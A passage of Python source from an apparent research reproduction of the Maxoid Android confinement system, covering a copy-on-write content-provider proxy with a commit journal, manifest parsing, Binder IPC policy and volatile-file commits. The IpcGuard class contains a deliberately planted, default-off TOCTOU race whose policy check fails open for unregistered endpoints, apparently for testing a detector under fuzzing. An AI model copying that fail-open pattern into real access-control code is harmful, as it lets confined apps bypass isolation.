        every base it depends on). Returns the COW view name."""
        key = (view.lower(), initiator_key(initiator))
        cow_name = self.view_name(view, initiator)
        if key in self._materialized:
            return cow_name
        definition = self._user_views[view.lower()]
        replacements: Dict[str, str] = {}
        for base in definition.bases:
            if base in self._tables:
                replacements[base] = self._ensure_table_cow(base, initiator)
            else:
                replacements[base] = self._ensure_view_cow(base, initiator)
        select = parse(definition.select_sql)
        assert isinstance(select, ast.Select)
        rewritten = self._rewrite_bases(copy.deepcopy(select), replacements)
        self.db.define_view(cow_name, rewritten)
        self._materialized.add(key)
        self.stats.cow_views_created += 1
        return cow_name

    def _rewrite_bases(self, select: ast.Select, replacements: Dict[str, str]) -> ast.Select:
        for core in select.cores:
            refs = []
            if core.source is not None:
                refs.append(core.source)
            refs.extend(join.table for join in core.joins)
            for ref in refs:
                if ref.subquery is not None:
                    self._rewrite_bases(ref.subquery, replacements)
                elif ref.name is not None and ref.name.lower() in replacements:
                    if ref.alias is None:
                        # Preserve the original name for qualified column
                        # references in the view definition.
                        ref.alias = ref.name
                    ref.name = replacements[ref.name.lower()]
        # Subqueries in WHERE clauses may also reference bases.
        for core in select.cores:
            if core.where is not None:
                self._rewrite_expr_bases(core.where, replacements)
        return select

    def _rewrite_expr_bases(self, expr: ast.Expr, replacements: Dict[str, str]) -> None:
        if isinstance(expr, (ast.InSelect, ast.ExistsSelect, ast.ScalarSelect)):
            self._rewrite_bases(expr.select, replacements)
        elif isinstance(expr, ast.Unary):
            self._rewrite_expr_bases(expr.operand, replacements)
        elif isinstance(expr, ast.Binary):
            self._rewrite_expr_bases(expr.left, replacements)
            self._rewrite_expr_bases(expr.right, replacements)
        elif isinstance(expr, ast.InList):
            self._rewrite_expr_bases(expr.operand, replacements)
            for item in expr.items:
                self._rewrite_expr_bases(item, replacements)

    # ------------------------------------------------------------------
    # Maxoid view selection (paper: "the proxy selects the correct view")
    # ------------------------------------------------------------------

    def resolve(self, name: str, initiator: Optional[str], for_write: bool = False) -> str:
        """The SQL object a caller should operate on.

        ``initiator=None`` means the caller is not a delegate: operations
        go to the primary table / original view. For a delegate of
        ``initiator``, reads go to the COW view if volatile state exists
        (otherwise the shared primary copy), and writes always go through
        the COW view, creating it on demand.
        """
        key = name.lower()
        if initiator is None:
            return key
        if key in self._tables:
            if for_write:
                return self._ensure_table_cow(key, initiator)
            if self.has_delta(key, initiator):
                return self._ensure_table_cow(key, initiator)
            return key
        if key in self._user_views:
            definition = self._user_views[key]
            if for_write:
                raise SqlNameError(f"view {name} is not writable through the proxy")
            if self._any_base_has_delta(definition, initiator):
                return self._ensure_view_cow(key, initiator)
            return key
        raise SqlNameError(f"unknown table or view: {name}")

    def _any_base_has_delta(self, definition: _UserView, initiator: str) -> bool:
        for base in definition.bases:
            if base in self._tables:
                if self.has_delta(base, initiator):
                    return True
            else:
                if self._any_base_has_delta(self._user_views[base], initiator):
                    return True
        return False

    # ------------------------------------------------------------------
    # The provider-facing operation API
    # ------------------------------------------------------------------

    def query(
        self,
        name: str,
        initiator: Optional[str],
        projection: Optional[Sequence[str]] = None,
        where: Optional[str] = None,
        params: Sequence[object] = (),
        order_by: Optional[str] = None,
        limit: Optional[int] = None,
    ) -> ResultSet:
        """Query with automatic view selection and the footnote-5 widening.

        ``projection`` is a list of column names (None means ``*``);
        ``where`` is a SQL expression with ``?`` placeholders; ``order_by``
        is e.g. ``"title DESC, _id"``.
        """
        if self.obs.enabled:
            with self.obs.tracer.span(
                "cow.query", table=name, initiator=initiator
            ) as span:
                target = self.resolve(name, initiator, for_write=False)
                span.set(target=target)
                self.obs.metrics.count("cow.query")
                result = self._query_impl(
                    name, target, projection, where, params, order_by, limit
                )
                if self.obs.prov:
                    self._prov_table_read(name, initiator)
                return result
        target = self.resolve(name, initiator, for_write=False)
        result = self._query_impl(name, target, projection, where, params, order_by, limit)
        if self.obs.prov:
            self._prov_table_read(name, initiator)
        return result

    def _prov_table_read(self, name: str, initiator: Optional[str]) -> None:
        """Taint the querying actor with the stamped rows its view spans:
        the primary table for everyone, plus the caller's own delta table
        when the query ran as a delegate (other initiators' delta rows are
        invisible to this view and must not over-taint)."""
        tables = [name.lower()]
        if initiator is not None:
            tables.append(self.delta_name(name, initiator))
        self.obs.provenance.table_read(tables)

    def _query_impl(
        self,
        name: str,
        target: str,
        projection: Optional[Sequence[str]],
        where: Optional[str],
        params: Sequence[object],
        order_by: Optional[str],
        limit: Optional[int],
    ) -> ResultSet:
        columns = list(projection) if projection else ["*"]
        extra: List[str] = []
        if (
            order_by
            and projection
            and target != name.lower()  # querying a COW view
        ):
            order_columns = self._order_by_columns(order_by)
            present = {c.lower() for c in projection}
            extra = [c for c in order_columns if c not in present]
            if extra:
                columns.extend(extra)
                self.stats.order_by_workarounds += 1
        sql = f"SELECT {', '.join(columns)} FROM {target}"
        if where:
            sql += f" WHERE {where}"
        if order_by:
            sql += f" ORDER BY {order_by}"
        if limit is not None:
            sql += f" LIMIT {int(limit)}"
        result = self.db.execute(sql, params)
        if extra:
            keep = len(columns) - len(extra)
            result = ResultSet(
                columns=result.columns[:keep],
                rows=[row[:keep] for row in result.rows],
                rowcount=result.rowcount,
                lastrowid=result.lastrowid,
            )
        return result

    @staticmethod
    def _order_by_columns(order_by: str) -> List[str]:
        names = []
        for term in order_by.split(","):
            term = term.strip()
            if not term:
                continue
            column = term.split()[0].strip()
            names.append(column.lower())
        return names

    def insert(
        self,
        name: str,
        initiator: Optional[str],
        values: Dict[str, object],
    ) -> int:
        """Insert a row; delegates' inserts land in the delta table and
        return the volatile primary key."""
        if self.obs.enabled:
            with self.obs.tracer.span("cow.insert", table=name, initiator=initiator):
                self.obs.metrics.count("cow.insert")
                return self._insert_impl(name, initiator, values)
        return self._insert_impl(name, initiator, values)

    def _insert_impl(
        self, name: str, initiator: Optional[str], values: Dict[str, object]
    ) -> int:
        target = self.resolve(name, initiator, for_write=initiator is not None)
        columns = list(values)
        placeholders = ", ".join("?" for _ in columns)
        sql = f"INSERT INTO {target} ({', '.join(columns)}) VALUES ({placeholders})"
        result = self.db.execute(sql, [values[c] for c in columns])
        if initiator is not None:
            self.stats.volatile_inserts += 1
            delta = self.delta_name(name, initiator)
            pk = self._tables[name.lower()].pk
            row_id = int(self.db.execute(f"SELECT MAX({pk}) FROM {delta}").scalar() or 0)
            if self.obs.prov:
                self.obs.provenance.row_write(
                    delta, row_id, op="cow.insert", initiator=initiator
                )
            return row_id
        row_id = int(result.lastrowid or 0)
        if self.obs.prov:
            self.obs.provenance.row_write(name.lower(), row_id, op="cow.insert")
        return row_id

    def update(
        self,
        name: str,
        initiator: Optional[str],
        values: Dict[str, object],
        where: Optional[str] = None,
        params: Sequence[object] = (),
    ) -> int:
        """Update matching rows; a delegate's updates copy-on-write into
        its initiator's delta table. Returns rows affected."""
        if self.obs.enabled:
            with self.obs.tracer.span("cow.update", table=name, initiator=initiator):
                self.obs.metrics.count("cow.update")
                return self._update_impl(name, initiator, values, where, params)
        return self._update_impl(name, initiator, values, where, params)

    def _update_impl(
        self,
        name: str,
        initiator: Optional[str],
        values: Dict[str, object],
        where: Optional[str],
        params: Sequence[object],
    ) -> int:
        target = self.resolve(name, initiator, for_write=initiator is not None)
        assignments = ", ".join(f"{c} = ?" for c in values)
        sql = f"UPDATE {target} SET {assignments}"
        if where:
            sql += f" WHERE {where}"
        result = self.db.execute(sql, list(values.values()) + list(params))
        if initiator is not None:
            self.stats.volatile_updates += result.rowcount
        return result.rowcount

    def delete(
        self,
        name: str,
        initiator: Optional[str],
        where: Optional[str] = None,
        params: Sequence[object] = (),
    ) -> int:
        """Delete matching rows; a delegate's deletes become whiteout
        records in the delta table. Returns rows affected."""
        if self.obs.enabled:
            with self.obs.tracer.span("cow.delete", table=name, initiator=initiator):
                self.obs.metrics.count("cow.delete")
                return self._delete_impl(name, initiator, where, params)
        return self._delete_impl(name, initiator, where, params)

    def _delete_impl(
        self,
        name: str,
        initiator: Optional[str],
        where: Optional[str],
        params: Sequence[object],
    ) -> int:
        target = self.resolve(name, initiator, for_write=initiator is not None)
        sql = f"DELETE FROM {target}"
        if where:
            sql += f" WHERE {where}"
        result = self.db.execute(sql, params)
        if initiator is not None:
            self.stats.volatile_deletes += result.rowcount
        return result.rowcount

    # ------------------------------------------------------------------
    # Initiator-side volatile state management
    # ------------------------------------------------------------------

    def insert_volatile(self, name: str, initiator: str, values: Dict[str, object]) -> int:
        """An *initiator* creating a volatile record directly — the
        ``isVolatile`` ContentValues flag (paper section 6.1, API 4)."""
        self._ensure_table_cow(name, initiator)
        delta = self.delta_name(name, initiator)
        columns = list(values) + ["_whiteout"]
        placeholders = ", ".join("?" for _ in columns)
        sql = f"INSERT INTO {delta} ({', '.join(columns)}) VALUES ({placeholders})"
        result = self.db.execute(sql, list(values.values()) + [0])
        self.stats.volatile_inserts += 1
        row_id = int(result.lastrowid or 0)
        if self.obs.prov:
            self.obs.provenance.row_write(
                delta, row_id, op="cow.insert_volatile", initiator=initiator
            )
        return row_id

    def volatile_rows(
        self,
        name: str,
        initiator: str,
        include_whiteouts: bool = False,
    ) -> ResultSet:
        """All volatile records of ``initiator`` for ``name`` (the data an
        initiator sees through volatile URIs)."""
        if not self.has_delta(name, initiator):
            return ResultSet(columns=self.table_columns(name) + ["_whiteout"], rows=[])
        delta = self.delta_name(name, initiator)
        where = "" if include_whiteouts else " WHERE _whiteout = 0"
        return self.db.execute(f"SELECT * FROM {delta}{where}")

    def commit_volatile(self, name: str, initiator: str, row_id: int) -> bool:
        """Copy one volatile record into the primary table (the initiator's
        selective commit, section 3.3). Returns False if no such record."""
        if self.obs.enabled:
            with self.obs.tracer.span(
                "cow.commit", table=name, initiator=initiator, row_id=row_id
            ) as span:
                committed = self._commit_volatile_impl(name, initiator, row_id)
                span.set(committed=committed)
                if committed:
                    self.obs.metrics.count("cow.commits")
                return committed
        return self._commit_volatile_impl(name, initiator, row_id)

    def _commit_volatile_impl(self, name: str, initiator: str, row_id: int) -> bool:
        if not self.has_delta(name, initiator):
            return False
        if _FAULTS.enabled:
            _FAULTS.hit(
                "cow.delta_commit",
                table=name,
                initiator=initiator,
                row_id=row_id,
                device_id=self.obs.device_id,
            )
        if _SCHED.enabled:
            _SCHED.yield_point(
                "cow.delta_commit", table=name, resource=f"table:{name}", rw="w"
            )
        entry = self._journal_commit_intent(name, initiator, row_id, sealed=1)
        if entry is None:
            return False
        self._apply_commit_entries([entry])
        return True

    def commit_volatile_batch(
        self, name: str, initiator: str, row_ids: Sequence[int]
    ) -> int:
        """Commit several volatile records all-or-nothing.

        Two-phase: every row is journaled unsealed, one statement seals the
        batch (the atomic commit point), then the rows are applied and the
        journal truncated. A crash before the seal rolls the whole batch
        back on recovery; after it, recovery replays every row — never a
        partial batch. Returns rows committed.
        """
        if not self.has_delta(name, initiator):
            return 0
        if _FAULTS.enabled:
            _FAULTS.hit(
                "cow.delta_commit",
                table=name,
                initiator=initiator,
                rows=len(row_ids),
                device_id=self.obs.device_id,
            )
        if _SCHED.enabled:
            _SCHED.yield_point(
                "cow.delta_commit", table=name, resource=f"table:{name}", rw="w"
            )
        entries = []
        for row_id in row_ids:
            entry = self._journal_commit_intent(name, initiator, row_id, sealed=0)
            if entry is not None:
                entries.append(entry)
        if not entries:
            return 0
        jids = ", ".join("?" for _ in entries)
        self.db.execute(
            f"UPDATE {JOURNAL_TABLE} SET sealed = 1 WHERE jid IN ({jids})",
            [entry["jid"] for entry in entries],
        )
        self._apply_commit_entries(entries)
        if self.obs.enabled:
            self.obs.metrics.count("cow.commits", len(entries))
        return len(entries)

    # -- journal plumbing ------------------------------------------------

    def _ensure_journal(self) -> None:
        if not self.db.has_table(JOURNAL_TABLE):
            self.db.execute(
                f"CREATE TABLE {JOURNAL_TABLE} ("
                "jid INTEGER PRIMARY KEY, tbl TEXT, initiator TEXT, "
                "delta_pk INTEGER, public_pk INTEGER, sealed INTEGER, "
                "payload TEXT)"
            )

    def _allocate_public_pk(self, primary: _PrimaryTable) -> int:
        """Pre-allocate the public key a delegate-created row commits under.

        Allocated at journal-write time — not at apply time — and recorded
        in the intent, so replaying the entry after a crash reuses the same
        key instead of minting a duplicate row. Pending journal entries for
        the table count as allocated.
        """
        top = int(
            self.db.execute(f"SELECT MAX({primary.pk}) FROM {primary.name}").scalar()
            or 0
        )
        pending = int(
            self.db.execute(
                f"SELECT MAX(public_pk) FROM {JOURNAL_TABLE} WHERE tbl = ?",
                [primary.name],
            ).scalar()
            or 0
        )
        return max(top, pending) + 1

    def _journal_commit_intent(
        self, name: str, initiator: str, row_id: int, sealed: int
    ) -> Optional[Dict[str, object]]:
        """Write one commit intent; returns the in-memory entry or None."""
        self._ensure_journal()
        delta = self.delta_name(name, initiator)
        primary = self._tables[name.lower()]
        row = self.db.execute(
            f"SELECT * FROM {delta} WHERE {primary.pk} = ? AND _whiteout = 0", [row_id]
        )
        if not row.rows:
            return None
        record = dict(zip([c.lower() for c in row.columns], row.rows[0]))
        record.pop("_whiteout", None)
        if row_id >= VOLATILE_PK_BASE:
            # A row the delegate created: give it a fresh public key.
            record[primary.pk] = self._allocate_public_pk(primary)
        result = self.db.execute(
            f"INSERT INTO {JOURNAL_TABLE} "
            "(tbl, initiator, delta_pk, public_pk, sealed, payload) "
            "VALUES (?, ?, ?, ?, ?, ?)",
            [
                primary.name,
                initiator,
                row_id,
                record[primary.pk],
                sealed,
                _encode_payload(record),
            ],
        )
        return {
            "jid": result.lastrowid,
            "tbl": primary.name,
            "record": record,
            "pk": primary.pk,
            "delta": delta,
            "delta_pk": row_id,
            "initiator": initiator,
        }

    def _apply_record(self, table: str, record: Dict[str, object]) -> None:
        columns = list(record)
        placeholders = ", ".join("?" for _ in columns)
        self.db.execute(
            f"INSERT OR REPLACE INTO {table} ({', '.join(columns)}) "
            f"VALUES ({placeholders})",
            [record[c] for c in columns],
        )

    def _apply_commit_entries(self, entries: List[Dict[str, object]]) -> None:
        for entry in entries:
            if _FAULTS.enabled:
                _FAULTS.hit(
                    "cow.delta_commit.apply",
                    table=entry["tbl"],
                    device_id=self.obs.device_id,
                )
            if _SCHED.enabled:
                _SCHED.yield_point(
                    "cow.delta_commit.apply",
                    table=entry["tbl"],
                    resource=f"table:{entry['tbl']}",
                    rw="w",
                )
            self._apply_record(entry["tbl"], entry["record"])
            if self.obs.prov and "delta" in entry:
                # `recover()` replays from the journal payload alone (no
                # delta keys), so only fresh commits carry lineage.
                self.obs.provenance.row_commit(
                    entry["tbl"],
                    entry["record"][entry["pk"]],
                    entry["delta"],
                    entry["delta_pk"],
                    entry["initiator"],
                )
            if _FAULTS.enabled:
                _FAULTS.hit(
                    "cow.delta_commit.truncate",
                    table=entry["tbl"],
                    device_id=self.obs.device_id,
                )
            self.db.execute(
                f"DELETE FROM {JOURNAL_TABLE} WHERE jid = ?", [entry["jid"]]
            )

    def recover(self) -> Tuple[int, int]:
        """Finish or undo commits interrupted by a crash.

        Unsealed journal rows (a batch that never reached its commit point)
        are rolled back; sealed rows are replayed — idempotently, since the
        intent carries the pre-allocated public key and the apply is an
        ``INSERT OR REPLACE``. Returns ``(replayed, rolled_back)``.
        """
        if not self.db.has_table(JOURNAL_TABLE):
            return (0, 0)
        rolled_back = self.db.execute(
            f"DELETE FROM {JOURNAL_TABLE} WHERE sealed = 0"
        ).rowcount
        pending = self.db.execute(
            f"SELECT jid, tbl, payload FROM {JOURNAL_TABLE} ORDER BY jid"
        )
        replayed = 0
        for jid, tbl, payload in pending.rows:
            self._apply_record(tbl, _decode_payload(payload))
            self.db.execute(f"DELETE FROM {JOURNAL_TABLE} WHERE jid = ?", [jid])
            replayed += 1
        return (replayed, rolled_back)

    def discard_volatile(self, name: str, initiator: str) -> int:
        """Drop all of ``initiator``'s volatile records for ``name``
        (the clean-up after commit, section 3.3). Returns rows discarded."""
        if self.obs.enabled:
            with self.obs.tracer.span(
                "cow.discard", table=name, initiator=initiator
            ) as span:
                count = self._discard_volatile_impl(name, initiator)
                span.set(rows=count)
                self.obs.metrics.count("cow.discarded_rows", count)
                return count
        return self._discard_volatile_impl(name, initiator)

    def _discard_volatile_impl(self, name: str, initiator: str) -> int:
        if not self.has_delta(name, initiator):
            return 0
        delta = self.delta_name(name, initiator)
        count = int(self.db.execute(f"SELECT COUNT(*) FROM {delta}").scalar() or 0)
        self.db.execute(f"DELETE FROM {delta}")
        return count

    def discard_all_volatile(self, initiator: str) -> int:
        """Discard the initiator's volatile records across every table."""
        total = 0
        for table in list(self._tables):
            total += self.discard_volatile(table, initiator)
        return total

    def initiators_with_volatile_state(self, name: str) -> List[str]:
        """Initiator keys having at least one volatile record for ``name``."""
        found = []
        prefix = f"{name.lower()}_delta_"
        for table_name in self.db.table_names():
            if table_name.startswith(prefix) and len(self.db.table(table_name)):
                found.append(table_name[len(prefix) :])
        return found

    # ------------------------------------------------------------------
    # The administrative view (providers' background threads)
    # ------------------------------------------------------------------

    def admin_rows(self, name: str) -> List[Dict[str, object]]:
        """Primary plus all volatile rows, each tagged with ``_state``
        (``"public"`` or ``"vol:<initiator-key>"``) and ``_whiteout``."""
        primary = self._tables[name.lower()]
        cols = ", ".join(primary.columns)
        parts = [f"SELECT {cols}, 0 AS _whiteout, 'public' AS _state FROM {primary.name}"]
        for key in self.initiators_with_volatile_state(name):
            delta = f"{primary.name}_delta_{key}"
            parts.append(f"SELECT {cols}, _whiteout, 'vol:{key}' AS _state FROM {delta}")
        result = self.db.execute(" UNION ALL ".join(parts))
        return result.dicts()
