"""The Maxoid manifest (paper section 6.1).

An app ships an optional Maxoid manifest (an XML file in the real system)
declaring:

1. **Private directories on external storage** — paths under ``EXTDIR``
   that belong to the app's private state even though they live on the
   public SD card (the Dropbox use case, section 4.2). Other apps keep
   seeing those paths as ordinary public directories.
2. **Private-intent filters** — a whitelist or blacklist of intent filters
   deciding, without code changes, which of the app's outgoing intents
   invoke the target *as a delegate* (section 6.1, initiator API 2.2).
"""

from __future__ import annotations

import xml.etree.ElementTree as ElementTree
from dataclasses import dataclass, field
from typing import List, Optional

from repro.android.intents import Intent, IntentFilter
from repro.kernel import path as vpath


@dataclass
class MaxoidManifest:
    """Per-app Maxoid policy declarations.

    ``private_ext_dirs`` are EXTDIR-relative paths (e.g. ``"data/A"``).
    ``private_filters`` with ``filter_mode="whitelist"`` means intents
    matching any filter invoke delegates; ``"blacklist"`` inverts that
    (everything is private except matches).
    """

    private_ext_dirs: List[str] = field(default_factory=list)
    private_filters: List[IntentFilter] = field(default_factory=list)
    filter_mode: str = "whitelist"

    def __post_init__(self) -> None:
        if self.filter_mode not in ("whitelist", "blacklist"):
            raise ValueError(f"bad filter_mode: {self.filter_mode}")
        self.private_ext_dirs = [d.strip("/") for d in self.private_ext_dirs]

    # ------------------------------------------------------------------
    # XML form ("an XML file called the Maxoid manifest", paper 6.1)
    # ------------------------------------------------------------------

    @classmethod
    def from_xml(cls, xml_text: str) -> "MaxoidManifest":
        """Parse the XML manifest format::

            <maxoid>
              <private-ext-dir path="Dropbox"/>
              <private-intents mode="whitelist">
                <filter action="android.intent.action.VIEW" scheme="content"/>
              </private-intents>
            </maxoid>

        ``scheme`` and ``authority`` attributes may hold comma-separated
        lists; ``action`` likewise. ``priority`` is an integer attribute.
        """
        root = ElementTree.fromstring(xml_text)
        if root.tag != "maxoid":
            raise ValueError(f"not a maxoid manifest (root <{root.tag}>)")
        private_dirs = [
            element.attrib["path"] for element in root.findall("private-ext-dir")
        ]
        filters: List[IntentFilter] = []
        mode = "whitelist"
        intents = root.find("private-intents")
        if intents is not None:
            mode = intents.attrib.get("mode", "whitelist")
            for element in intents.findall("filter"):
                def split(name: str) -> List[str]:
                    raw = element.attrib.get(name, "")
                    return [part.strip() for part in raw.split(",") if part.strip()]

                filters.append(
                    IntentFilter(
                        actions=split("action"),
                        schemes=split("scheme"),
                        authorities=split("authority"),
                        mime_prefixes=split("mime"),
                        priority=int(element.attrib.get("priority", "0")),
                    )
                )
        return cls(
            private_ext_dirs=private_dirs,
            private_filters=filters,
            filter_mode=mode,
        )

    def to_xml(self) -> str:
        """Serialize back to the XML manifest format (round-trippable)."""
        root = ElementTree.Element("maxoid")
        for directory in self.private_ext_dirs:
            ElementTree.SubElement(root, "private-ext-dir", {"path": directory})
        if self.private_filters or self.filter_mode != "whitelist":
            intents = ElementTree.SubElement(
                root, "private-intents", {"mode": self.filter_mode}
            )
            for intent_filter in self.private_filters:
                attrs = {}
                if intent_filter.actions:
                    attrs["action"] = ",".join(intent_filter.actions)
                if intent_filter.schemes:
                    attrs["scheme"] = ",".join(intent_filter.schemes)
                if intent_filter.authorities:
                    attrs["authority"] = ",".join(intent_filter.authorities)
                if intent_filter.mime_prefixes:
                    attrs["mime"] = ",".join(intent_filter.mime_prefixes)
                if intent_filter.priority:
                    attrs["priority"] = str(intent_filter.priority)
                ElementTree.SubElement(intents, "filter", attrs)
        return ElementTree.tostring(root, encoding="unicode")

    def is_private_ext_path(self, ext_relative_path: str) -> bool:
        """True if ``ext_relative_path`` (relative to EXTDIR) falls inside
        one of the declared private directories."""
        normalized = vpath.normalize("/" + ext_relative_path)
        return any(
            vpath.is_within(normalized, "/" + private) for private in self.private_ext_dirs
        )

    def intent_is_private(self, intent: Intent) -> bool:
        """Decide whether an outgoing intent should invoke a delegate,
        according to the declared filters. The explicit
        ``FLAG_MAXOID_DELEGATE`` is handled by the Activity Manager and
        overrides this."""
        matched = any(f.matches(intent) for f in self.private_filters)
        if self.filter_mode == "whitelist":
            return matched
        return not matched


#: Manifest for apps that declare nothing (stock Android behaviour).
EMPTY_MANIFEST = MaxoidManifest()
