"""IPC confinement: invocation transitivity and Binder restriction
(paper section 3.4).

Two enforcement points:

1. **Invocation decisions** in the Activity Manager. When ``B^A`` invokes
   another app, the invoked instance is forced to be ``C^A``
   (invocation-transitivity); ``B^A`` asking for its *own* delegate is
   nested delegation, which Maxoid rejects. When an initiator invokes an
   app, the delegate flag on the intent or the initiator's Maxoid-manifest
   filters decide whether the target starts as a delegate.

2. **The Binder policy** installed into the kernel driver. A delegate's
   direct Binder peers are restricted to trusted system services, its
   initiator, and delegates of the same initiator.

Broadcasts from a delegate are delivered only within its confinement
domain (its initiator and that initiator's delegates).
"""

from __future__ import annotations

from typing import Dict, Optional

from repro.errors import NestedDelegationError
from repro.android.intents import Intent
from repro.core.context import same_confinement_domain
from repro.core.manifest import MaxoidManifest
from repro.kernel.binder import BinderDriver, BinderEndpoint
from repro.kernel.proc import TaskContext
from repro.sched import SCHED as _SCHED


class IpcGuard:
    """Maxoid's IPC policy, shared by the Binder driver and the AM."""

    #: PLANTED single-enforcement-point race, off by default (armed only
    #: by the fuzz plane's ``binder-guard-race`` bug mode). When set, the
    #: instance registry is rebuilt non-atomically on every registration
    #: (clear -> preemption window -> repopulate) and the policy check
    #: fails *open* for endpoints missing from the registry — a classic
    #: check-then-act TOCTOU that only an adversarial interleaving can
    #: exploit. The detector (provenance + S1-S4 rules) is untouched.
    racy_guard: bool = False

    def __init__(self, binder: BinderDriver) -> None:
        # Live app-instance endpoints: endpoint name -> its task context.
        self._instance_contexts: Dict[str, TaskContext] = {}
        binder.install_policy(self.binder_policy)

    # ------------------------------------------------------------------
    # Instance registry (maintained by the Activity Manager)
    # ------------------------------------------------------------------

    def register_instance(self, endpoint_name: str, context: TaskContext) -> None:
        if self.racy_guard and _SCHED.enabled:
            # Racy variant: rebuild the whole registry instead of a
            # point update, with a yield inside the empty window.
            entries = dict(self._instance_contexts)
            entries[endpoint_name] = context
            self._instance_contexts.clear()
            _SCHED.yield_point(
                "guard.rebuild", endpoint=endpoint_name, resource="guard-registry",
                rw="w",
            )
            self._instance_contexts.update(entries)
            return
        self._instance_contexts[endpoint_name] = context

    def unregister_instance(self, endpoint_name: str) -> None:
        self._instance_contexts.pop(endpoint_name, None)

    # ------------------------------------------------------------------
    # Binder policy (kernel modification #3, section 6.2)
    # ------------------------------------------------------------------

    def binder_policy(self, sender: TaskContext, endpoint: BinderEndpoint) -> bool:
        if endpoint.is_system:
            return True
        if not sender.is_delegate:
            return True
        if self.racy_guard and _SCHED.enabled:
            _SCHED.yield_point(
                "guard.decide", endpoint=endpoint.name, resource="guard-registry",
                rw="r",
            )
            target_context = self._instance_contexts.get(endpoint.name)
            if target_context is None:
                # Fail-open "compatibility" branch: treat an unknown
                # endpoint as mid-registration and let it through. Only
                # reachable while a racy rebuild window is open.
                return True
            return same_confinement_domain(sender, target_context)
        target_context = self._instance_contexts.get(endpoint.name)
        if target_context is None:
            # Unknown app endpoint: refuse — a delegate may not open new
            # channels outside its confinement domain.
            return False
        return same_confinement_domain(sender, target_context)

    # ------------------------------------------------------------------
    # Invocation decisions (section 3.4 / 6.1 / 6.2)
    # ------------------------------------------------------------------

    @staticmethod
    def decide_initiator(
        caller: TaskContext,
        intent: Intent,
        caller_manifest: Optional[MaxoidManifest],
    ) -> Optional[str]:
        """Which initiator the invoked instance runs on behalf of.

        Returns ``None`` for a normal (on-behalf-of-self) start, or the
        initiator package for a delegate start. Raises
        :class:`NestedDelegationError` when a delegate asks for its own
        delegate.
        """
        if caller.is_delegate:
            if intent.wants_delegate:
                raise NestedDelegationError(
                    f"{caller} may only invoke delegates of {caller.initiator}"
                )
            # Invocation transitivity: whatever B^A starts becomes C^A.
            return caller.initiator
        if intent.wants_delegate:
            return caller.app
        if caller_manifest is not None and caller.app is not None:
            if caller_manifest.intent_is_private(intent):
                return caller.app
        return None

    @staticmethod
    def broadcast_visible(sender: TaskContext, receiver: TaskContext) -> bool:
        """May ``receiver`` observe a broadcast from ``sender``?

        Broadcasts from delegates stay within the confinement domain;
        initiators' broadcasts are unrestricted (stock Android).
        """
        if not sender.is_delegate:
            return True
        return same_confinement_domain(sender, receiver)
