"""Initiator-side volatile state management (paper section 3.3).

``Vol(A)`` is the set of everything A's delegates wrote to their view of
public state. For files, the initiator sees it under ``EXTDIR/tmp/...``
(and ``/data/data/<A>/tmp`` for writes to its exposed internal dir); for
content providers, through volatile URIs. This module gives initiators the
app-level operations the paper describes:

- enumerate volatile files,
- selectively **commit** one (copy it from the tmp name to the real name),
- **discard** the whole volatile state afterwards ("A can discard the
  entire Vol(A) conveniently because of the fixed naming pattern").

Discarding requires root (the branches live outside the app's reach), so
it goes through the Maxoid system service on Binder.
"""

from __future__ import annotations

from typing import List, Optional

from repro.android.storage import DATA_ROOT, EXTDIR
from repro.errors import FileNotFound, IpcDenied
from repro.faults import FAULTS as _FAULTS
from repro.kernel import path as vpath
from repro.kernel.binder import BinderDriver, Transaction
from repro.kernel.proc import Process
from repro.kernel.syscall import Syscalls
from repro.core.branches import BranchManager
from repro.core.journal import CommitJournal
from repro.sched import SCHED as _SCHED

EXT_TMP = vpath.join(EXTDIR, "tmp")

MAXOID_SERVICE = "maxoid"


class VolatileFiles:
    """An initiator's window onto its volatile file state."""

    def __init__(
        self, process: Process, journal: Optional[CommitJournal] = None
    ) -> None:
        if process.context.is_delegate:
            raise IpcDenied("delegates have no volatile state of their own")
        self._process = process
        self._sys = Syscalls(process)
        self._package = process.context.app
        # Resolve observability through the process: volatile-state spans
        # land in the owning device's context.
        self.obs = process.obs
        # The device-wide commit WAL; without one (bare construction in
        # unit tests) commits fall back to the direct, non-journaled copy.
        self._journal = journal

    @property
    def ext_tmp(self) -> str:
        return EXT_TMP

    @property
    def int_tmp(self) -> str:
        return vpath.join(DATA_ROOT, self._package or "", "tmp")

    def list_files(self) -> List[str]:
        """All volatile files, as app-visible tmp paths."""
        if self.obs.enabled:
            with self.obs.tracer.span("vol.list", initiator=self._package) as span:
                found = self._list_files_impl()
                span.set(count=len(found))
                return found
        return self._list_files_impl()

    def _list_files_impl(self) -> List[str]:
        found: List[str] = []
        for root in (self.ext_tmp, self.int_tmp):
            try:
                found.extend(self._sys.walk_files(root))
            except FileNotFound:
                continue
        return sorted(found)

    def read(self, tmp_path: str) -> bytes:
        return self._sys.read_file(tmp_path)

    def commit(self, tmp_path: str) -> str:
        """Copy a volatile file to its non-volatile name and return it.

        ``EXTDIR/tmp/<p>`` commits to ``EXTDIR/<p>``; a path under the
        initiator's internal tmp commits into its internal dir.
        """
        if self.obs.enabled:
            with self.obs.tracer.span(
                "vol.commit", initiator=self._package, path=tmp_path
            ) as span:
                destination = self._commit_impl(tmp_path)
                span.set(destination=destination)
                self.obs.metrics.count("vol.commits")
                return destination
        return self._commit_impl(tmp_path)

    def _commit_impl(self, tmp_path: str) -> str:
        if vpath.is_within(tmp_path, self.ext_tmp):
            rel = vpath.relative_to(tmp_path, self.ext_tmp)
            destination = vpath.join(EXTDIR, rel)
        elif vpath.is_within(tmp_path, self.int_tmp):
            rel = vpath.relative_to(tmp_path, self.int_tmp)
            destination = vpath.join(DATA_ROOT, self._package or "", rel)
        else:
            raise FileNotFound(f"{tmp_path} is not a volatile path")
        if _FAULTS.enabled:
            _FAULTS.hit(
                "vol.commit",
                initiator=self._package,
                path=tmp_path,
                device_id=self.obs.device_id,
            )
        if _SCHED.enabled:
            _SCHED.yield_point(
                "vol.commit", path=tmp_path, resource=f"file:{tmp_path}", rw="r"
            )
        data = self._sys.read_file(tmp_path)
        # Crash-atomic commit: journal the intent (payload included), then
        # apply, then truncate. After any crash, recovery either replays
        # the complete intent or rolls back a torn one — the destination is
        # never left half-written without a journal entry covering it.
        entry = None
        if self._journal is not None:
            entry = self._journal.begin(
                package=self._package or "",
                source=tmp_path,
                destination=destination,
                data=data,
                uid=self._process.cred.uid,
                gid=self._process.cred.gid,
            )
        if _FAULTS.enabled:
            _FAULTS.hit(
                "vol.commit.apply",
                initiator=self._package,
                path=destination,
                device_id=self.obs.device_id,
            )
        if _SCHED.enabled:
            _SCHED.yield_point(
                "vol.commit.apply",
